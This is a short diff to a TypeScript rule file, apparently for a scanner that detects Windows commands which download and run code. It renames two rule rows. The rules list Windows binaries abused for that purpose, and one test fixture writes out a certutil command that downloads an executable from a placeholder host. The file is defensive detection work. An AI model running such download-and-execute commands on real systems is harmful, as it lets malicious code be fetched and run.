@@ -111,7 +111,7 @@ export const windowsDownload: PatternRule = {
       ],
       spares: [fenced('powershell', 'irm https://api.acme.example/v1 | ConvertTo-Json')],
     }),
-    row('Windows tools that fetch and run', {
+    row('Windows tools that download and run', {
       within: 'line',
       sign: pattern(either('certutil', 'bitsadmin', 'mshta', 'regsvr32', 'rundll32', 'msiexec')),
       match: pattern(
@@ -130,7 +130,7 @@ export const windowsDownload: PatternRule = {
       catches: [fenced('powershell', 'certutil -urlcache -split -f https://cdn.invalid/a.exe a.exe')],
       spares: [fenced('powershell', 'certutil -hashfile a.zip SHA256')],
     }),
-    row('the same through a variable', {
+    row('a download in a variable that is run', {
       within: 'block',
       match: pattern(
         '$',
